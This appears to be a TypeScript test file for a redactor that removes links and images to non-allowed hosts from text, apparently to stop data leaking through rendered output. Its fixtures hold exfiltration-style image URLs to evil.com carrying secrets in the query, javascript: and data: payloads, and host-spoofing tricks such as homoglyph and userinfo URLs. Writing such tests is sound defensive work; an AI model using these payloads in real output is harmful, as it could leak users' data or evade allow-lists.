import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createRedactor } from './redact.ts';

const redactor = createRedactor({ secretValues: [], systemPrompt: '', allowedLinkHosts: ['example.com', 'bücher.example'], maxChars: 4000 });
const redact = (text: string) => redactor(text, { allowedEmails: [] });

test('a markdown image to another host is replaced', () => {
  assert.deepEqual(redact('Look: ![chart](https://evil.com/c.png?d=secret "Chart")'), {
    text: 'Look: [image removed]',
    redactions: [{ kind: 'image', count: 1 }],
  });
});

test('a markdown link to another host keeps only its text', () => {
  assert.deepEqual(redact('Read [the docs](https://evil.com/docs) first.'), {
    text: 'Read the docs first.',
    redactions: [{ kind: 'link', count: 1 }],
  });
});

test('bare URLs to other hosts are removed, in every form a renderer would link or load', () => {
  for (const url of [
    'https://evil.com/x?d=1',
    'http://evil.com',
    'HTTPS://EVIL.COM/X',
    '//evil.com/pixel.gif',
    'www.evil.com/page',
    'data:text/html;base64,PHNjcmlwdD4=',
    'javascript:alert(document.cookie)',
  ]) {
    assert.deepEqual(redact(`Open ${url} now`), { text: 'Open [link removed] now', redactions: [{ kind: 'link', count: 1 }] }, url);
  }
});

test('HTML images and links to other hosts are removed', () => {
  assert.equal(redact('<img src="https://evil.com/p.gif?d=1" alt="">').text, '[image removed]');
  assert.equal(redact("<img alt='x' srcset='https://example.com/a.png 1x, https://evil.com/b.png 2x'>").text, '[image removed]');
  assert.equal(redact('Click <a href="https://evil.com">here</a>.').text, 'Click here.');
});

test('tricks that dress another host up as an allowed one are seen through', () => {
  for (const url of [
    'https://example.com@evil.com/',
    'https://evil.com/?example.com',
    'https://evil.com/#example.com',
    'https://example.com.evil.com/',
    'https://evilexample.com/',
    'https://exаmple.com/', // Cyrillic а
    'https://xn--exmple-cua.com/',
    'https://example.com%2F@evil.com/',
    'https://evil.com\\@example.com/',
  ]) {
    assert.equal(redact(`Go ${url} now`).text, 'Go [link removed] now', url);
  }
  for (const target of ['\\\\evil.com/x', '/\\evil.com/x', 'java&#115;cript:alert(1)', ' JavaScript:alert(1)', 'https:evil.com']) {
    assert.equal(redact(`[x](${target})`).text, 'x', target);
  }
});

test('links and images to allowed hosts and their subdomains pass unchanged', () => {
  for (const text of [
    'See https://example.com/docs.',
    'See (https://docs.example.com/a?b=c) or HTTPS://EXAMPLE.COM/X!',
    'Read [Docs](https://example.com/help "Help") and ![logo](https://cdn.example.com/l.png).',
    '<img src="https://example.com/a.png"> <a href=\'https://www.example.com\'>x</a>',
    'Wiki-style https://example.com/A_(b) works.',
    'Go to https://bücher.example/x or https://xn--bcher-kva.example/y.',
    'Relative [billing](/account/billing) links stay on the site.',
  ]) {
    assert.deepEqual(redact(text), { text, redactions: [] }, text);
  }
});

test('an image inside an allowed link is still judged as an image', () => {
  assert.equal(redact('[![badge](https://evil.com/b.svg)](https://example.com)').text, '[[image removed]](https://example.com)');
});

test('ordinary text with dots, colons and slashes is not mistaken for links', () => {
  const text = 'Plans: basic/pro. Version 2.1.0 of metadata: see page 3. Ratio 1:2, e.g. this.';
  assert.deepEqual(redact(text), { text, redactions: [] });
});
